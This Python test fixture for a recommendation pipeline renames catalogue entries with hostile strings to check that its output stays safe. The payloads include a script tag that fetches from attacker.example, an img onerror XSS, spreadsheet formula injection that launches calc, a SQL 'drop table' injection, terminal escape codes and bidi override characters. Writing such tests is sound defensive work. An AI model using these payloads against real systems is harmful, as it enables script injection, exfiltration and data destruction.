"""A home whose catalogue is hostile: every title and name is markup, a formula, a command or a trick of layout."""

import gzip
import json
import shutil
from collections.abc import Callable, Iterable
from itertools import count
from pathlib import Path
from typing import Any

import polars as pl

from recsys.home import Home

from ..nights import World

ATTACKER = "attacker.example"
NAMES = (
    f"<script>fetch('http://{ATTACKER}/s')</script>",
    f'<img src="http://{ATTACKER}/i.png" onerror="alert(1)">',
    f"![p](http://{ATTACKER}/p.png)",
    f"[free](http://{ATTACKER}/l)",
    f"http://{ATTACKER}/u and www.{ATTACKER} and ann@{ATTACKER}",
    f"<http://{ATTACKER}/a>",
    r"$\frac{1}$ and $$\href{http://attacker.example}{x}$$ costs $1 to $2",
    ":heart: :material/home: :red[x] :emoji:",
    "{{ 7 * 7 }} {% raw %} {# x #} ${7 * 7}",
    f'=HYPERLINK("http://{ATTACKER}","x")',
    "+1+cmd|'/C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\"double\" 'single' `back` “curly” &amp; \\",
    "line\n\n# heading\r\n- item\n\n```\ncode",
    "\u202egnos \u2066evil",
    "*bold* __under__ ~~struck~~ | a | b |",
    "--help",
    "\x1b]8;;http://attacker.example\x07x\x1b[2J",
    "'; drop table marts.track_daily; --",
    "long " * 1_000,
)
FILE = "tracks ![p](x) <b> $x$ =1 '\" {{ 7 }} \u202e"  # of a delivered file, before its suffixes
NAMED = {"artists": ("name",), "labels": ("name",), "charts": ("title", "artist"), "playlists": ("title",)}


def hostile_home(world: World, folder: Path) -> Home:
    """Ingest a world whose titles and names are hostile, and run a nightly run on it."""
    raw = folder / "raw"
    shutil.copytree(world.raw, raw)
    named = _names()
    for table, columns in NAMED.items():
        (path,) = raw.glob(f"{table}.*")
        rows = pl.read_csv(path, infer_schema=False, truncate_ragged_lines=True, encoding="utf8-lossy").to_dicts()
        path.unlink()
        _write(raw / f"{table}.jsonl", ({**row, **{column: named(row[column]) for column in columns}} for row in rows))
    (path,) = raw.glob("tracks.*")
    tracks = [_hostile_track(row, named) for row in _valid_rows(path)]
    path.unlink()
    _write(raw / f"{FILE}.jsonl", [*tracks, {"track_id": "refused", "duration_ms": "no number"}])
    home = Home(folder / "home")
    World(raw, world.recipe, world.last_day).run_nightly(home)
    return home


def _names() -> Callable[[object], str]:
    """Return a function that gives each value another hostile name, always the same."""
    known, numbers = dict[object, str](), count()

    def named(value: object) -> str:
        if value not in known:
            number = next(numbers)
            known[value] = f"{NAMES[number % len(NAMES)]} {number}"
        return known[value]

    return named


def _hostile_track(row: dict[str, Any], named: Callable[[object], str]) -> dict[str, Any]:
    changed = {column: named(row[column]) for column in ("title", "release_title") if row.get(column)}
    genres = row.get("genres")
    return {**row, **changed, "genres": [named(genre) for genre in genres] if isinstance(genres, list) else genres}


def _valid_rows(path: Path) -> list[dict[str, Any]]:
    rows = []
    for line in gzip.decompress(path.read_bytes()).decode(errors="replace").splitlines():
        try:
            row = json.loads(line)
        except ValueError:
            continue
        if isinstance(row, dict):
            rows.append(row)
    return rows


def _write(path: Path, rows: Iterable[dict[str, Any]]) -> None:
    path.write_text("".join(f"{json.dumps(row)}\n" for row in rows), encoding="utf-8")
